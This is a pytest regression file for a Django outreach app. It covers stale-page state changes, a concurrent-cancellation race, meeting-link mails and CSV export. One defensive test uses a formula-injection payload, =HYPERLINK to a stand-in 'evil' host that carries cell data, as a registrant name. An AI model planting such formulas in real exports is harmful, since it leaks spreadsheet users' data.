"""Regressions: stale pages and concurrent changes, mails to the public, odd addresses."""

import datetime as dt
import os
import re
import subprocess
import sys
import threading
import time

import pytest
from django.contrib.auth.models import AnonymousUser
from django.db import connection
from django.utils import timezone, translation

from ciodispatch.core.exports import csv_bytes
from ciodispatch.outreach import services
from ciodispatch.outreach.models import Registration, SupportOffer, SupportRequest
from ciodispatch.outreach.services import OutreachError
from tests.conftest import verified_client
from tests.outreach.helpers import (
    event,
    offer_fields,
    public_registration,
    published_offer,
    support_request,
)

R = Registration.State
RS = SupportRequest.State
REPORT = "視察を受け入れ、救急搬送の受入れ照会の運用と課題を共有した。次年度に再訪予定。"


def _public(talk, name, email):
    return public_registration(talk, name, email)


def _stale(support):
    """The request as a page loaded it, before someone else's change."""
    return SupportRequest.objects.get(pk=support.pk)


# --- support requests: decide on what is stored -----------------------------------------------


def test_a_decided_request_cannot_be_decided_again_from_a_stale_page(personas):
    offer = published_offer(personas.host2, personas.office, capacity=2)
    support = support_request(personas.host1, offer)
    page = _stale(support)
    services.approve_support_request(_stale(support), actor=personas.office)
    with pytest.raises(OutreachError, match="no longer awaiting a decision"):
        services.decline_support_request(page, actor=personas.office, comment="no")
    with pytest.raises(OutreachError, match="no longer awaiting a decision"):
        services.approve_support_request(page, actor=personas.office)
    support.refresh_from_db()
    assert support.state == RS.APPROVED


def test_deciding_twice_over_http_says_why_instead_of_failing(personas, client):
    offer = published_offer(personas.host2, personas.office)
    support = support_request(personas.host1, offer)
    office = verified_client(client, personas.office)
    url = f"/support/requests/{support.pk}/decide/"
    approve = {"decision": "approve", "offer": offer.pk, "comment": ""}
    assert office.post(url, approve).status_code == 302
    again = office.post(url, approve, follow=True)
    assert again.status_code == 200
    decline = office.post(url, {"decision": "decline", "comment": "no"}, follow=True)
    assert decline.status_code == 200
    assert "この依頼はすでに" in decline.content.decode() or "no longer" in (
        decline.content.decode()
    )
    support.refresh_from_db()
    assert support.state == RS.APPROVED


def test_withdraw_cancel_and_visit_recheck_the_stored_state(personas):
    offer = published_offer(personas.host2, personas.office, capacity=2)
    support = support_request(personas.host1, offer)
    page = _stale(support)
    services.approve_support_request(_stale(support), actor=personas.office)
    with pytest.raises(OutreachError, match="can be withdrawn"):
        services.withdraw_support_request(page, actor=personas.host1)

    approved, visit_page = _stale(support), _stale(support)
    services.cancel_support(_stale(support), actor=personas.office, reason="日程が合わない")
    with pytest.raises(OutreachError, match="approved support can be cancelled"):
        services.cancel_support(approved, actor=personas.office, reason="二重送信")
    with pytest.raises(OutreachError, match="approved support"):
        services.record_visit(
            visit_page,
            actor=personas.host2,
            held_on=timezone.localdate() - dt.timedelta(days=1),
            participants=3,
            report=REPORT,
        )
    support.refresh_from_db()
    assert support.state == RS.CANCELLED


def test_a_withdrawn_request_page_cannot_withdraw_again_over_http(personas, client):
    offer = published_offer(personas.host2, personas.office)
    support = support_request(personas.host1, offer)
    host = verified_client(client, personas.host1)
    url = f"/support/requests/{support.pk}/withdraw/"
    assert host.post(url).status_code == 302
    assert host.post(url).status_code == 403  # the policy: only a submitted request


# --- offers ---------------------------------------------------------------------------------


def test_publishing_or_returning_an_offer_in_the_wrong_state_says_why(personas, client):
    offer = services.create_offer(
        personas.host1.local_government, actor=personas.host1, **offer_fields()
    )
    office = verified_client(client, personas.office)
    client.raise_request_exception = True
    draft = office.post(f"/support/offers/{offer.pk}/publish/", follow=True)
    assert draft.status_code == 200
    services.submit_offer(offer, actor=personas.host1)
    assert office.post(f"/support/offers/{offer.pk}/publish/").status_code == 302
    again = office.post(f"/support/offers/{offer.pk}/publish/", follow=True)
    back = office.post(f"/support/offers/{offer.pk}/return/", {"comment": "x"}, follow=True)
    assert again.status_code == back.status_code == 200
    offer.refresh_from_db()
    assert offer.state == SupportOffer.State.PUBLISHED
    with translation.override("en"), pytest.raises(OutreachError, match="Only an offer submitted"):
        services.publish_offer(offer, actor=personas.office)


def test_a_stale_page_cannot_publish_a_withdrawn_offer(personas):
    offer = services.create_offer(
        personas.host1.local_government, actor=personas.host1, **offer_fields()
    )
    services.submit_offer(offer, actor=personas.host1)
    page, other_page = SupportOffer.objects.get(pk=offer.pk), SupportOffer.objects.get(pk=offer.pk)
    services.withdraw_offer(SupportOffer.objects.get(pk=offer.pk), actor=personas.host1)
    with pytest.raises(OutreachError, match="Only an offer submitted"):
        services.publish_offer(page, actor=personas.office)
    with pytest.raises(OutreachError, match="already withdrawn"):
        services.withdraw_offer(other_page, actor=personas.host1)
    offer.refresh_from_db()
    assert offer.state == SupportOffer.State.WITHDRAWN and offer.published_at is None


@pytest.mark.parametrize("value", ["²", "١", "9" * 30, "-1", "1e3", " 1"])
def test_an_odd_offer_in_the_address_is_ignored(personas, client, value):
    host = verified_client(client, personas.host1)
    client.raise_request_exception = True
    assert host.get("/support/requests/new/", {"offer": value}).status_code == 200


# --- events ---------------------------------------------------------------------------------


def test_a_stale_cancellation_promotes_nobody_a_second_time(personas):
    talk = event(personas.office, capacity=1)
    first = _public(talk, "A", "a@example.jp")
    _public(talk, "B", "b@example.jp")
    _public(talk, "C", "c@example.jp")
    page = Registration.objects.get(pk=first.pk)
    services.cancel_registration(first, actor=AnonymousUser(), token=first.token)
    with pytest.raises(OutreachError, match="already cancelled"):
        services.cancel_registration(page, actor=AnonymousUser(), token=page.token)
    with pytest.raises(OutreachError, match="already cancelled"):
        services.cancel_registration(page, actor=personas.office)
    states = dict(talk.registrations.values_list("name", "state"))
    assert states == {"A": R.CANCELLED, "B": R.CONFIRMED, "C": R.WAITLISTED}


def test_no_promotion_beyond_the_capacity(personas):
    talk = event(personas.office, capacity=1)
    first = _public(talk, "A", "a@example.jp")
    second = _public(talk, "B", "b@example.jp")
    _public(talk, "C", "c@example.jp")
    # Over-full already (as two racing promotions used to leave it): a cancellation fills
    # no place beyond the capacity.
    Registration.objects.filter(pk=second.pk).update(state=R.CONFIRMED)
    assert services.cancel_registration(first, actor=personas.office) is None
    assert dict(talk.registrations.values_list("name", "state"))["C"] == R.WAITLISTED


@pytest.mark.django_db(transaction=True)
def test_two_cancellations_of_one_place_at_once_promote_one_person(personas, monkeypatch):
    """PostgreSQL only: SQLite serialises writers anyway (and shares no rows between threads
    in the test database)."""
    if connection.vendor != "postgresql":
        pytest.skip("row locks need PostgreSQL")
    talk = event(personas.office, capacity=1)
    first = _public(talk, "A", "a@example.jp")
    _public(talk, "B", "b@example.jp")
    _public(talk, "C", "c@example.jp")
    holding, release = threading.Event(), threading.Event()
    compare = services.secrets.compare_digest

    def hold_the_lock_once(a, b):
        # Called under the event lock: the first caller keeps it until the second waits.
        if not holding.is_set():
            holding.set()
            release.wait(10)
        return compare(a, b)

    monkeypatch.setattr(services.secrets, "compare_digest", hold_the_lock_once)
    errors = []

    def cancel():
        try:
            services.cancel_registration(first, actor=AnonymousUser(), token=first.token)
        except OutreachError as exc:
            errors.append(str(exc))
        finally:
            connection.close()

    one, two = threading.Thread(target=cancel), threading.Thread(target=cancel)
    one.start()
    assert holding.wait(10)
    two.start()
    deadline = time.monotonic() + 10
    with connection.cursor() as cursor:
        while time.monotonic() < deadline:  # until the second waits for the lock
            cursor.execute(
                "SELECT count(*) FROM pg_stat_activity WHERE wait_event_type = 'Lock' "
                "AND datname = current_database()"
            )
            if cursor.fetchone()[0]:
                break
            time.sleep(0.05)
    release.set()
    one.join(15)
    two.join(15)
    states = dict(talk.registrations.values_list("name", "state"))
    assert states == {"A": R.CANCELLED, "B": R.CONFIRMED, "C": R.WAITLISTED}
    assert len(errors) == 1  # the second was told the registration is already cancelled


def test_the_public_gets_the_meeting_address_and_an_absolute_link_when_confirmed(
    personas, client, mailoutbox, django_capture_on_commit_callbacks, settings
):
    settings.SITE_URL = "https://cio.example.jp"
    secret = "https://meet.example.jp/secret"
    talk = event(personas.office, capacity=1, place="", online=True, online_url=secret)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            f"/events/{talk.pk}/register/",
            {"name": "青木 美咲", "email": "aoki@example.jp", "consent": "on"},
        )
    (asking,) = mailoutbox
    # Before the address confirms, nothing is reserved and no meeting address is given.
    assert secret not in asking.body and not Registration.objects.exists()
    confirm = re.search(r"https://cio\.example\.jp(/events/confirm/\S+/)", asking.body).group(1)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(confirm)
        _public(talk, "待機 太郎", "wait@example.jp")
    place = Registration.objects.get(email="aoki@example.jp")
    link = f"https://cio.example.jp/events/cancel/{place.token}/"
    confirmed, waiting = mailoutbox[1], mailoutbox[3]  # each after its confirmation mail
    assert secret in confirmed.body and link in confirmed.body
    assert secret not in waiting.body and "https://cio.example.jp/events/cancel/" in waiting.body
    # The page after registering says only that a mail is on its way; the link shows it.
    assert secret not in client.get(response["Location"]).content.decode()
    assert secret in client.get(f"/events/cancel/{place.token}/").content.decode()
    waiter = Registration.objects.get(email="wait@example.jp")
    assert secret not in client.get(f"/events/cancel/{waiter.token}/").content.decode()

    # The person waiting is promoted: the promotion mail carries the address too.
    with django_capture_on_commit_callbacks(execute=True):
        services.cancel_registration(place, actor=AnonymousUser(), token=place.token)
    assert secret in mailoutbox[-1].body and mailoutbox[-1].to == ["wait@example.jp"]
    assert secret in client.get(f"/events/cancel/{waiter.token}/").content.decode()
    assert secret not in client.get(f"/events/cancel/{place.token}/").content.decode()


def test_a_cancelled_event_stays_readable_with_its_calendar_file_drafts_do_not(personas, client):
    talk = event(personas.office, capacity=5)
    services.register(talk, actor=personas.host1)
    services.cancel_event(talk, actor=personas.office, reason="台風")
    assert client.get(f"/events/{talk.pk}/").status_code == 200
    ics = client.get(f"/events/{talk.pk}/event.ics")
    assert ics.status_code == 200 and b"STATUS:CANCELLED" in ics.content
    draft = event(personas.office, publish=False)
    assert client.get(f"/events/{draft.pk}/event.ics").status_code in (302, 403, 404)
    assert client.get(f"/events/{draft.pk}/").status_code in (302, 403, 404)


def test_the_roster_csv_neutralises_formulas(personas, client):
    talk = event(personas.office, capacity=5)
    _public(talk, '=HYPERLINK("http://evil/"&A1,"x")', "e@example.jp")
    office = verified_client(client, personas.office)
    text = office.get(f"/events/{talk.pk}/roster/?format=csv").content.decode("utf-8-sig")
    assert "\r\n\"'=HYPERLINK" in text
    assert "\r\n=HYPERLINK" not in text and '\r\n"=HYPERLINK' not in text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_start_like_a_formula_get_a_quote(start):
    text = csv_bytes(["h"], [[start + "1+1", -5, "a=b"]]).decode("utf-8-sig")
    first = text.split("\r\n", 1)[1]
    assert first.lstrip('"').startswith("'" + start) and ",-5,a=b" in first


def _site_url(value: str) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k != "SITE_URL"} | {"SECRET_KEY": "x"}
    if value:
        env["SITE_URL"] = value
    return subprocess.run(
        [sys.executable, "-c", "import ciodispatch.settings as s; print(s.SITE_URL)"],
        env=env,
        capture_output=True,
        text=True,
    )


def test_site_url_defaults_to_the_demo_and_refuses_a_value_that_is_no_address():
    assert _site_url("").stdout.strip() == "http://127.0.0.1:8000"
    assert _site_url("https://cio.example.jp/").stdout.strip() == "https://cio.example.jp"
    for bad in ("cio.example.jp", "https://cio.example.jp/portal"):
        result = _site_url(bad)
        assert result.returncode != 0 and "SITE_URL" in result.stderr
